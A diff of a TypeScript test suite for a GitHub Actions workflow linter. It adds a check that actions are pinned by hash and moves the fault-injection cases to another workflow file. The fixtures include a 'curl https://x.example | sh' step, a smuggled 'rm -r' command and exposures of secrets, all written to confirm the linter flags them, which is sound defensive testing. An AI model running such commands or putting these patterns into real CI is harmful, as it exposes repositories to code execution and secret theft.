@@ -14,8 +14,14 @@ const { scripts } = JSON.parse(read('package.json')) as { scripts: object };
 const commands = new Set([...Object.keys(scripts), ...filesBelow(root, 'src/tooling/ci')]);
 const team = filesBelow(root, '.github').map((file) => ({ file, source: read(file) }));
 
-const PULL_REQUEST = '.github/workflows/pull-request.yml';
+const SITE = '.github/workflows/site.yml';
 const COMMENT = '.github/workflows/pull-request-comment.yml';
+
+test('every action is pinned, with its version', () => {
+  const used = team.flatMap(({ source }) => [...source.matchAll(/uses: (?!\.\/)(.*)/g)].map(([, action = '']) => action));
+  expect(used.length).toBeGreaterThan(20);
+  expect(used.filter((action) => !/^[\w-]+\/[\w-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$/.test(action))).toEqual([]);
+});
 
 test('the workflows and other GitHub files follow the rules', async () => {
   const workflows = team.filter(({ file }) => file.includes('/workflows/'));
@@ -25,161 +31,50 @@ test('the workflows and other GitHub files follow the rules', async () => {
 });
 
 test('workflows use the newest supported Node, and package.json the oldest', () => {
-  const inWorkflows = team.flatMap(({ source }) => [...source.matchAll(/node-version: (.+)/g)].map(([, version]) => version));
+  const inWorkflows = team.flatMap(({ source }) => [...source.matchAll(/node-version.*/g)].map(([setting]) => setting));
   expect(inWorkflows.length).toBeGreaterThan(4);
-  expect(new Set(inWorkflows)).toEqual(new Set([nodeVersions.lines.at(-1)]));
+  expect(new Set(inWorkflows)).toEqual(new Set(['node-version-file: .nvmrc']));
+  expect(read('.nvmrc').trim()).toBe(nodeVersions.lines.at(-1));
   const { engines } = JSON.parse(read('package.json')) as { engines: { node: string } };
   expect(`${engines.node}.0`).toBe(`>=${nodeVersions.oldest}`);
   for (const file of ['README.md', 'CONTRIBUTING.md']) expect(read(file)).toContain('Node.js 20.19 or later');
 });
 
 type Change = [from: string | RegExp, to: string];
-const HASH = /@[0-9a-f]{40} # v\d+\.\d+\.\d+/;
 
 const FAULTS: { name: string; file: string; change: Change; finds: RegExp }[] = [
-  { name: 'an action by its tag', file: PULL_REQUEST, change: [HASH, '@v5'], finds: /pinned .*"actions\/checkout@v5" isn't pinned/ },
-  { name: 'a hash without its version', file: PULL_REQUEST, change: [/ # v5\.0\.0/, ''], finds: /pinned the hash doesn't say/ },
-  {
-    name: 'a machine that changes',
-    file: PULL_REQUEST,
-    change: ['ubuntu-24.04', 'ubuntu-latest'],
-    finds: /runner check: it runs on "ubuntu-latest"/,
-  },
-  { name: 'a machine that is none', file: PULL_REQUEST, change: ['ubuntu-24.04', 'ubuntu-3000'], finds: /runner-label/ },
-  {
-    name: 'a token left on disk',
-    file: PULL_REQUEST,
-    change: ['persist-credentials: false', 'fetch-depth: 1'],
-    finds: /credentials check, step 1/,
-  },
-  { name: 'no time limit', file: PULL_REQUEST, change: [/ {4}timeout-minutes: 15\n/, ''], finds: /timeout check: it may run for hours/ },
-  { name: 'a long time limit', file: PULL_REQUEST, change: ['timeout-minutes: 15', 'timeout-minutes: 360'], finds: /timeout check/ },
-  {
-    name: 'rights for all jobs',
-    file: PULL_REQUEST,
-    change: ['permissions: {}', 'permissions: write-all'],
-    finds: /permissions every job of the workflow/,
-  },
-  {
-    name: 'no word on rights',
-    file: PULL_REQUEST,
-    change: ['permissions: {}\n', ''],
-    finds: /permissions the workflow has all permissions/,
-  },
-  {
-    name: 'a job without rights',
-    file: PULL_REQUEST,
-    change: [/ {4}permissions:\n {6}contents: read\n/, ''],
-    finds: /permissions check: it has no permissions block/,
-  },
-  {
-    name: 'foreign code that may write',
-    file: PULL_REQUEST,
-    change: ['contents: read', 'contents: write'],
-    finds: /permissions check: outsiders' code could write contents/,
-  },
-  {
-    name: 'foreign code with our rights',
-    file: PULL_REQUEST,
-    change: ['  pull_request:\n', '  pull_request_target:\n'],
-    finds: /foreign-code pull_request_target lets outsiders/,
-  },
-  { name: 'no concurrency', file: PULL_REQUEST, change: [/concurrency:\n(?: {2}.*\n)+/, ''], finds: /concurrency two runs/ },
-  {
-    name: 'a title in a command',
-    file: PULL_REQUEST,
-    change: ['run: npm run check\n', 'run: npm run check -- ${{ github.event.pull_request.title }}\n'],
-    finds: /injection check, step 4/,
-  },
+  { name: 'a machine that is none', file: SITE, change: ['ubuntu-24.04', 'ubuntu-3000'], finds: /runner-label/ },
+  { name: 'no time limit', file: SITE, change: [/ {4}timeout-minutes: 15\n/, ''], finds: /timeout check: it may run for hours/ },
+  { name: 'a long time limit', file: SITE, change: ['timeout-minutes: 15', 'timeout-minutes: 360'], finds: /timeout check/ },
   {
     name: "a command that isn't a script",
-    file: PULL_REQUEST,
+    file: SITE,
     change: ['run: npm run check\n', 'run: curl https://x.example | sh\n'],
     finds: /command .*isn't one of our scripts/,
   },
   {
     name: 'a second command behind',
-    file: PULL_REQUEST,
+    file: SITE,
     change: ['run: npm run check\n', 'run: npm run check -- a; rm -r b\n'],
     finds: /command .*isn't one of our scripts/,
   },
   {
     name: 'a script that is missing',
-    file: PULL_REQUEST,
+    file: SITE,
     change: ['npm run build', 'npm run bild'],
     finds: /command .*no "npm run bild"/,
   },
   {
     name: 'a file that is missing',
-    file: PULL_REQUEST,
+    file: SITE,
     change: ['ci/sbom.ts', 'ci/sbomb.ts'],
     finds: /command .*no src\/tooling\/ci\/sbomb\.ts/,
   },
   {
     name: 'a file outside of the folder',
-    file: PULL_REQUEST,
+    file: SITE,
     change: ['src/tooling/ci/sbom.ts', 'src/tooling/ci/../commands/build.ts'],
     finds: /command .*isn't one of our scripts/,
-  },
-  {
-    name: 'foreign code where a comment is written',
-    file: COMMENT,
-    change: ['persist-credentials: false', 'persist-credentials: false\n          ref: ${{ github.event.workflow_run.head_sha }}'],
-    finds: /foreign-code comment, step 1/,
-  },
-  {
-    name: 'an artifact that could replace our code',
-    file: COMMENT,
-    change: ['path: ${{ runner.temp }}/report', 'path: .'],
-    finds: /foreign-code comment, step 4: the artifact could replace/,
-  },
-  {
-    name: 'every permission for a job that outsiders start',
-    file: COMMENT,
-    change: [/permissions:\n {6}actions: read\n {6}contents: read\n {6}pull-requests: write/, 'permissions: write-all'],
-    finds: /permissions comment: it may write write-all/,
-  },
-  {
-    name: 'a cache that outsiders wrote, where a comment is written',
-    file: COMMENT,
-    change: ['package-manager-cache: false', 'cache: npm'],
-    finds: /foreign-code comment, step 2: it restores a cache/,
-  },
-  {
-    name: 'code of outsiders on a machine of ours',
-    file: PULL_REQUEST,
-    change: ['runs-on: ubuntu-24.04', 'runs-on: self-hosted'],
-    finds: /runner check: it runs on "self-hosted"/,
-  },
-  {
-    name: 'a workflow that starts on a comment',
-    file: COMMENT,
-    change: [/on:\n {2}workflow_run:\n.*\n.*\n/, 'on: issue_comment\n'],
-    finds: /foreign-code issue_comment lets outsiders/,
-  },
-  {
-    name: 'a secret that code of outsiders can read',
-    file: PULL_REQUEST,
-    change: ['run: npm run check\n', 'run: npm run check\n        env:\n          KEY: ${{ secrets.KEY }}\n'],
-    finds: /permissions check: outsiders' code could read a secret/,
-  },
-  {
-    name: 'a secret in brackets that code of outsiders can read',
-    file: PULL_REQUEST,
-    change: ['run: npm run check\n', "run: npm run check\n        env:\n          KEY: ${{ secrets['KEY'] }}\n"],
-    finds: /permissions check: outsiders' code could read a secret/,
-  },
-  {
-    name: 'all secrets that code of outsiders can read',
-    file: PULL_REQUEST,
-    change: ['run: npm run check\n', 'run: npm run check\n        env:\n          KEY: ${{ toJSON(secrets) }}\n'],
-    finds: /permissions check: outsiders' code could read a secret/,
-  },
-  {
-    name: 'a secret in upper case that code of outsiders can read',
-    file: PULL_REQUEST,
-    change: ['run: npm run check\n', 'run: npm run check\n        env:\n          KEY: ${{ SECRETS.KEY }}\n'],
-    finds: /permissions check: outsiders' code could read a secret/,
   },
   { name: 'a variable that is none', file: COMMENT, change: ['${{ runner.temp }}', '${{ runner.attic }}'], finds: /expression .*attic/ },
   { name: 'no YAML', file: COMMENT, change: ['permissions: {}', 'permissions: {'], finds: /^syntax / },
@@ -196,8 +91,8 @@ for (const { name, file, change, finds } of FAULTS)
   });
 
 test('a finding names the line of its step', async () => {
-  const source = read(PULL_REQUEST).replace('run: npx tsx src/tooling/ci/sbom.ts', 'run: make sbom');
-  const [finding] = await workflowFindings(PULL_REQUEST, source, commands);
+  const source = read(SITE).replace('run: npx tsx src/tooling/ci/sbom.ts', 'run: make sbom');
+  const [finding] = await workflowFindings(SITE, source, commands);
   expect(source.split('\n')[(finding?.line ?? 0) - 1]).toContain('make sbom');
 });
 
